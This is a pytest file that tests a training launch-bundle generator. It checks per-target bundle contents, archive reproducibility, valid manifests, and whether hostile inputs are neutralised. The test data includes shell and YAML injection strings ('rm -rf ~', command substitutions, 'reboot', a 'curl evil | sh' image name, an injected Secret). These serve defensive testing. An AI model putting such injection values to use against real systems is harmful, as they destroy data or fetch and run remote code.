"""Launch bundles: contents per target, reproducibility, valid scripts and manifests, and harmless
rendering of hostile plan names."""

from __future__ import annotations

import base64
import io
import json
import os
import re
import subprocess
import tarfile
import zipfile
from pathlib import Path

import pytest
import yaml

from executor.launch.bundle import (
    DEFAULT_IMAGE,
    PodOptions,
    build_bundle,
    bundle_files,
    bundle_name,
    write_bundle,
)
from executor.launch.quoting import UnsafeValueError, dns_label
from planner.catalog.models import resolve_model
from planner.plan import Plan
from planner.search import make_plan as search
from planner.specs import ClusterSpec, PlanRequest, TrainingSpec
from tests.executor.launch_lint import documents
from tests.executor.plan_factory import debug_plan
from tests.older_schemas import as_schema_2_1

HOSTILE_NAMES = [
    'x"; rm -rf ~; "',
    "x'; rm -rf ~; '",
    "$(touch /tmp/pwned-$$) `touch /tmp/pwned2` ${HOME}",
    "multi\nline\nrm -rf ~ #",
    "yaml: {injection: true}\n- item\n---\nkind: Secret",
    "--steps 999 && reboot",
]


def make_plan(name: str = "llama-debug", **kwargs) -> Plan:
    return Plan.model_validate(debug_plan(name=name, **kwargs))


def members(archive: bytes) -> dict[str, tarfile.TarInfo]:
    with tarfile.open(fileobj=io.BytesIO(archive), mode="r:gz") as tar:
        return {m.name: m for m in tar.getmembers()}


def test_targets_select_files_and_archives_are_reproducible() -> None:
    plan = make_plan()
    root = bundle_name(plan)
    expected = {
        "torchrun": {"launch.sh"},
        "slurm": {"launch.sh", "slurm.sbatch"},
        "k8s": {"launch.sh", "k8s.yaml", "k8s-pytorchjob.yaml"},
        "skypilot": {"launch.sh", "skypilot.yaml", "requirements.txt"},
        "all": {"launch.sh", "slurm.sbatch", "k8s.yaml", "k8s-pytorchjob.yaml", "skypilot.yaml",
                "requirements.txt"},
    }
    for target, scripts in expected.items():
        archive = build_bundle(plan, target=target)
        assert archive == build_bundle(plan, target=target), "same plan, same bytes"
        names = {n.removeprefix(root + "/") for n in members(archive)}
        top = {n for n in names if "/" not in n}
        assert top == scripts | {"plan.json", "README.md"}, target
        assert "executor/runtime/train.py" in names and "executor/runtime/models/llama.py" in names
        info = members(archive)[f"{root}/launch.sh"]
        assert info.mode & 0o111, "launch.sh must be executable"
    # plan.json round-trips to the same Plan.
    files = {f.path: f for f in bundle_files(plan)}
    assert Plan.model_validate_json(files["plan.json"].data) == plan


def test_zip_format_keeps_executable_bits() -> None:
    plan = make_plan()
    with zipfile.ZipFile(io.BytesIO(build_bundle(plan, fmt="zip"))) as zf:
        info = zf.getinfo(f"{bundle_name(plan)}/launch.sh")
        assert (info.external_attr >> 16) & 0o111
        assert zf.read(f"{bundle_name(plan)}/plan.json") == next(
            f.data for f in bundle_files(plan) if f.path == "plan.json"
        )


def test_unknown_target_or_format_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown target"):
        build_bundle(make_plan(), target="docker")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="unknown format"):
        build_bundle(make_plan(), fmt="rar")  # type: ignore[arg-type]


def bash_syntax_ok(path: Path) -> None:
    result = subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr


def check_manifests(directory: Path, plan: Plan) -> None:
    trainjob_docs = documents((directory / "k8s.yaml").read_text())
    pytorchjob_docs = documents((directory / "k8s-pytorchjob.yaml").read_text())
    assert set(trainjob_docs) == {"PersistentVolumeClaim", "TrainJob", "ConfigMap"}
    assert set(pytorchjob_docs) == {"PersistentVolumeClaim", "PyTorchJob", "ConfigMap"}
    trainjob, pytorchjob = trainjob_docs["TrainJob"], pytorchjob_docs["PyTorchJob"]
    assert trainjob["apiVersion"] == "trainer.kubeflow.org/v1alpha1"
    assert pytorchjob["apiVersion"] == "kubeflow.org/v1"
    for doc in (trainjob, pytorchjob):
        name = doc["metadata"]["name"]
        assert re.fullmatch(r"[a-z]([-a-z0-9]*[a-z0-9])?", name) and len(name) <= 63
    trainer = trainjob["spec"]["trainer"]
    assert trainer["numNodes"] == plan.cluster.num_nodes
    assert trainer["command"][:2] == ["bash", "-c"] and trainer["args"] == ["launch"]
    assert trainer["image"] == DEFAULT_IMAGE and not trainer["image"].endswith(":latest")
    env = {e["name"]: e["value"] for e in trainer["env"]}
    assert env["NNODES"] == str(plan.cluster.num_nodes) and env["CHECKPOINT_DIR"] == "/checkpoints"
    assert env["PYTORCH_CUDA_ALLOC_CONF"] == "expandable_segments:True"
    assert "FSDP_BUNDLE_B64" not in env, "the bundle travels in a ConfigMap, not in the environment"
    # The ConfigMap carries the bundle's own launch.sh + plan + runtime, which every pod unpacks.
    for docs in (trainjob_docs, pytorchjob_docs):
        configmap = docs["ConfigMap"]
        payload = base64.b64decode(configmap["binaryData"]["bundle.tar.gz"])
        with tarfile.open(fileobj=io.BytesIO(payload), mode="r:gz") as archive:
            assert {"launch.sh", "plan.json", "executor/runtime/train.py"} <= set(archive.getnames())
            assert json.load(archive.extractfile("plan.json"))["plan_hash"] == plan.plan_hash
        claim = docs["PersistentVolumeClaim"]
        shared = plan.cluster.num_nodes > 1
        assert claim["spec"]["accessModes"] == ["ReadWriteMany" if shared else "ReadWriteOnce"]
    (patch,) = trainjob["spec"]["runtimePatches"]
    (job,) = patch["trainingRuntimeSpec"]["template"]["spec"]["replicatedJobs"]
    pod = job["template"]["spec"]["template"]
    pods = [pod["spec"]] + [r["template"]["spec"] for r in pytorchjob["spec"]["pytorchReplicaSpecs"].values()]
    for spec in pods:
        volumes = {v["name"]: v for v in spec["volumes"]}
        assert volumes["dshm"]["emptyDir"]["medium"] == "Memory" and volumes["dshm"]["emptyDir"]["sizeLimit"]
        assert volumes["bundle"]["configMap"]["name"] == trainjob_docs["ConfigMap"]["metadata"]["name"]
        claim_name = trainjob_docs["PersistentVolumeClaim"]["metadata"]["name"]
        assert volumes["checkpoints"]["persistentVolumeClaim"]["claimName"] == claim_name
        mounts = {m["name"]: m["mountPath"] for m in spec["containers"][0]["volumeMounts"]}
        assert mounts == {"bundle": "/etc/fsdp-bundle", "dshm": "/dev/shm", "checkpoints": "/checkpoints"}
        assert spec["terminationGracePeriodSeconds"] == 300
    replicas = pytorchjob["spec"]["pytorchReplicaSpecs"]
    assert replicas["Master"]["replicas"] == 1
    assert replicas.get("Worker", {"replicas": 0})["replicas"] == plan.cluster.num_nodes - 1


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_plan_names_render_harmless_files(name: str, tmp_path: Path) -> None:
    plan = make_plan(name=name, nodes=2, gpus_per_node=2, sharding="hybrid_shard")
    write_bundle(plan, tmp_path, target="all")
    directory = tmp_path / bundle_name(plan)
    assert re.fullmatch(r"fsdp-[A-Za-z0-9._-]+-[0-9a-f]{12}", directory.name)
    for script in ("launch.sh", "slurm.sbatch"):
        bash_syntax_ok(directory / script)
        text = (directory / script).read_text()
        for dangerous in ("rm -rf", "$(touch", "`touch", "reboot"):
            if dangerous in name:
                # Only ever inside a comment line, with shell metacharacters neutralised.
                for line in text.splitlines():
                    if dangerous in line:
                        assert line.lstrip().startswith("#") and not re.search(r"[;`$\"'&|<>]", line), line
    sbatch = (directory / "slurm.sbatch").read_text()
    job_name = re.search(r"^#SBATCH --job-name=(\S+)$", sbatch, re.M)
    assert job_name and re.fullmatch(r"[A-Za-z0-9._-]+", job_name.group(1))
    check_manifests(directory, plan)
    # The name reaches no YAML value except as inert comment text.
    for manifest in ("k8s.yaml", "k8s-pytorchjob.yaml"):
        docs = list(yaml.safe_load_all((directory / manifest).read_text()))
        assert len(docs) == 3 and "Secret" not in {d["kind"] for d in docs}


def test_hostile_name_bundle_executes_nothing(tmp_path: Path) -> None:
    # Run the generated launch.sh with a fake interpreter: it must reach torchrun with exactly
    # the expected arguments, and the name must not have run any command.
    plan = make_plan(name='x"; touch "$HOME/pwned"; "')
    write_bundle(plan, tmp_path, target="torchrun")
    directory = tmp_path / bundle_name(plan)
    home = tmp_path / "home"
    home.mkdir()
    fake = tmp_path / "fake-python"
    record = tmp_path / "argv.json"
    fake.write_text(
        "#!/usr/bin/env bash\n"
        'if [ "$1" = "-c" ]; then exit 0; fi\n'  # the `import torch` probe
        f'printf "%s\\n" "$@" > {record}\n'
    )
    fake.chmod(0o755)
    hostile_data = '/d s/$(touch "$HOME/pwned"); rm -rf ~'
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "PYTHON": str(fake), "DATA": hostile_data}
    result = subprocess.run(
        [str(directory / "launch.sh"), "--steps", "3", "--metrics-file", "m; rm -rf ~"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert not (home / "pwned").exists() and list(home.iterdir()) == []
    argv = record.read_text().splitlines()
    assert argv[:2] == ["-m", "torch.distributed.run"]
    assert "--standalone" in argv and argv[argv.index("--nproc-per-node") + 1] == "2"
    assert argv[-4:] == ["--steps", "3", "--metrics-file", "m; rm -rf ~"]  # passed through verbatim
    assert argv[argv.index("--plan") + 1] == str(directory / "plan.json")
    assert argv[argv.index("--data") + 1] == hostile_data  # DATA, verbatim


def test_launch_sh_multinode_env_and_validation(tmp_path: Path) -> None:
    plan = make_plan(nodes=2, gpus_per_node=2, sharding="hybrid_shard")
    write_bundle(plan, tmp_path, target="torchrun")
    directory = tmp_path / bundle_name(plan)
    fake = tmp_path / "fake-python"
    record = tmp_path / "argv.txt"
    fake.write_text(f'#!/usr/bin/env bash\n[ "$1" = "-c" ] && exit 0\nprintf "%s\\n" "$@" > {record}\n')
    fake.chmod(0o755)
    # A multi-node start needs MASTER_ADDR (test_launch_plumbing: refused without it).
    base = {"PATH": os.environ["PATH"], "PYTHON": str(fake), "MASTER_ADDR": "10.1.2.3"}
    run = subprocess.run(
        [str(directory / "launch.sh")],
        env={
            **base,
            "MASTER_PORT": "29400",
            "CHECKPOINT_DIR": "/ck pt",
            "MAX_RESTARTS": "3",
            "SYNTHETIC_DATA": "1",
        },
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert run.returncode == 0, run.stderr
    argv = record.read_text().splitlines()
    assert argv[argv.index("--rdzv-endpoint") + 1] == "10.1.2.3:29400"
    assert argv[argv.index("--rdzv-backend") + 1] == "c10d" and argv[argv.index("--nnodes") + 1] == "2"
    assert argv[argv.index("--max-restarts") + 1] == "3"
    assert argv[argv.index("--checkpoint-dir") + 1] == "/ck pt" and "--resume" in argv
    assert "--synthetic-data" in argv and "--data" not in argv
    bad = subprocess.run(
        [str(directory / "launch.sh")],
        env={**base, "NPROC_PER_NODE": "2; reboot"},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert bad.returncode == 2 and "NPROC_PER_NODE must be a whole number" in bad.stderr
    mismatch = subprocess.run(
        [str(directory / "launch.sh")],
        env={**base, "NPROC_PER_NODE": "3"},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert "not the plan's 2 x 2" in mismatch.stderr


def test_cpu_plans_request_no_gpus_and_gpu_plans_do() -> None:
    cpu = {
        f.path: f.data.decode() for f in bundle_files(make_plan()) if f.path.endswith((".sbatch", ".yaml"))
    }
    assert "--gpus-per-node" not in cpu["slurm.sbatch"] and "nvidia.com/gpu" not in cpu["k8s.yaml"]
    doc = debug_plan(nodes=4, gpus_per_node=8, sharding="hybrid_shard")
    doc["cluster"]["gpu"] = "H100-SXM-80GB"
    gpu = {
        f.path: f.data.decode()
        for f in bundle_files(Plan.model_validate(doc))
        if f.path.endswith((".sbatch", ".yaml"))
    }
    assert "#SBATCH --gpus-per-node=8" in gpu["slurm.sbatch"] and "#SBATCH --nodes=4" in gpu["slurm.sbatch"]
    trainer = documents(gpu["k8s.yaml"])["TrainJob"]["spec"]["trainer"]
    assert trainer["resourcesPerNode"]["limits"]["nvidia.com/gpu"] == 8 and trainer["numNodes"] == 4


def test_image_and_names_are_validated() -> None:
    with pytest.raises(UnsafeValueError):
        build_bundle(make_plan(), pods=PodOptions(image='pytorch"; curl evil | sh; "'))
    image = "ghcr.io/org/train:2.13@sha256:abc"
    files = {f.path: f.data for f in bundle_files(make_plan(), target="k8s", pods=PodOptions(image=image))}
    assert documents(files["k8s.yaml"].decode())["TrainJob"]["spec"]["trainer"]["image"] == image
    label = dns_label("--Über Modell!!--" * 10, suffix="0123abcd")
    assert (
        re.fullmatch(r"[a-z]([-a-z0-9]*[a-z0-9])?", label)
        and len(label) <= 63
        and label.endswith("-0123abcd")
    )
    assert dns_label("123", suffix="ab").startswith("p")


def test_launch_sh_runs_the_allocator_the_plan_was_priced_for(tmp_path: Path) -> None:
    plan = make_plan()
    write_bundle(plan, tmp_path, target="torchrun")
    directory = tmp_path / bundle_name(plan)
    fake = tmp_path / "fake-python"
    record = tmp_path / "alloc.txt"
    fake.write_text(
        f'#!/usr/bin/env bash\n[ "$1" = "-c" ] && exit 0\necho "$PYTORCH_CUDA_ALLOC_CONF" > {record}\n'
    )
    fake.chmod(0o755)
    base = {"PATH": os.environ["PATH"], "PYTHON": str(fake), "SYNTHETIC_DATA": "1"}
    for env, expected in (
        ({}, "expandable_segments:True"),
        ({"PYTORCH_CUDA_ALLOC_CONF": "max_split_size_mb:512"}, "max_split_size_mb:512"),
    ):
        run = subprocess.run(
            [str(directory / "launch.sh")],
            env={**base, **env},
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert run.returncode == 0, run.stderr
        assert record.read_text().strip() == expected


def test_launch_sh_needs_data_or_an_explicit_rehearsal(tmp_path: Path) -> None:
    plan = make_plan()
    write_bundle(plan, tmp_path, target="torchrun")
    launch = str(tmp_path / bundle_name(plan) / "launch.sh")
    fake = tmp_path / "fake-python"
    record = tmp_path / "argv.txt"
    fake.write_text(f'#!/usr/bin/env bash\n[ "$1" = "-c" ] && exit 0\nprintf "%s\\n" "$@" > {record}\n')
    fake.chmod(0o755)
    base = {"PATH": os.environ["PATH"], "PYTHON": str(fake)}

    def run(*args: str, **env: str) -> tuple[subprocess.CompletedProcess[str], list[str]]:
        record.unlink(missing_ok=True)
        result = subprocess.run([launch, *args], env={**base, **env}, cwd=tmp_path, capture_output=True,
                                text=True, timeout=60, check=False)
        return result, record.read_text().splitlines() if record.exists() else []

    refused, argv = run("--steps", "3")
    assert refused.returncode == 2 and argv == []  # before torchrun starts
    message = " ".join(refused.stderr.split())
    assert "launch.sh: no training data: set DATA to a dataset directory made by `fsdp-planner " \
        "prepare-data`" in message and "SYNTHETIC_DATA=1" in message
    # DATA, relative to where launch.sh was started (torchrun runs in the bundle directory).
    ok, argv = run("--steps", "3", DATA="datasets/web")
    assert ok.returncode == 0, ok.stderr
    assert argv[argv.index("--data") + 1] == str(tmp_path / "datasets" / "web")
    assert "--synthetic-data" not in argv
    ok, argv = run("--data", "/abs/ds")
    assert ok.returncode == 0 and argv[-2:] == ["--data", "/abs/ds"] and "--synthetic-data" not in argv
    ok, argv = run(SYNTHETIC_DATA="1")
    assert ok.returncode == 0 and "--synthetic-data" in argv and "--data" not in argv
    ok, argv = run("--synthetic-data")
    assert ok.returncode == 0 and argv.count("--synthetic-data") == 1
    ok, argv = run("--help")
    assert ok.returncode == 0 and argv[-1] == "--help"
    bad, argv = run(SYNTHETIC_DATA="yes")
    assert bad.returncode == 2 and "SYNTHETIC_DATA must be 1 or 0" in bad.stderr and argv == []


def test_the_bundle_readme_gives_the_predictions_with_their_intervals() -> None:
    plan = search(PlanRequest(model=resolve_model("llama-debug"), cluster=ClusterSpec.parse("1x2xcpu"),
                              training=TrainingSpec(seq_len=128, global_batch_tokens=1024, precision="fp32")))
    tokens, peak = plan.prediction.tokens_per_s_per_gpu_interval, plan.prediction.peak_memory_gib_interval
    assert tokens is not None and peak is not None
    readme = {f.path: f for f in bundle_files(plan)}["README.md"].data.decode()
    assert (f"{plan.prediction.tokens_per_s_per_gpu:,.0f} ({tokens.low:,.0f}–{tokens.high:,.0f}) tokens/s/GPU"
            in readme)
    assert f"peak {plan.prediction.peak_memory_gib:.1f} ({peak.low:.1f}–{peak.high:.1f}) GiB" in readme
    # A plan stored before schema 2.2 has none: the line reads as it did.
    old = Plan.model_validate(as_schema_2_1(plan.model_dump(mode="json")))
    old_readme = {f.path: f for f in bundle_files(old)}["README.md"].data.decode()
    assert re.search(r"tokens/s/GPU, MFU [\d.]+%, peak [\d.]+ GiB per GPU\.", old_readme)
